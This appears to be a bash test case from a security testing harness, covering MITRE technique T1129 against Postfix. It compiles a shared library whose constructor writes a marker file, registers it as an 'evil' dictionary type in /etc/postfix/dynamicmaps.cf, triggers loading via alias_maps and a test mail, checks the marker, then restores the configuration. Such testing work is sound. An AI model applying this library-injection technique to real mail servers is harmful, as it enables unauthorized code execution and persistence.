# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1129
about="a type of tables is added, whose library is the attacker's"
before() {
	echo '#include <fcntl.h>
__attribute__((constructor)) static void run(void) { open("/var/tmp/fidelity/marker/was-here", O_CREAT | O_WRONLY, 0644); }' >"$state/m.c"
	gcc -shared -fPIC -o /usr/lib/postfix/postfix-evil.so "$state/m.c"
	cp /etc/postfix/dynamicmaps.cf "$state/dynamicmaps.cf"
	echo 'evil /usr/lib/postfix/postfix-evil.so dict_evil_open' >>/etc/postfix/dynamicmaps.cf
}
attack() {
	configure 'alias_maps=hash:/etc/aliases, evil:/etc/evil'
	smtp a@else.example joe@lab.example 10
	perhaps effect
}
effect() { [ -e "$marker" ]; }
after() {
	rm -f /usr/lib/postfix/postfix-evil.so
	cp "$state/dynamicmaps.cf" /etc/postfix/
	cp "$state"/kept/* /etc/postfix/
	postsuper -d ALL
}
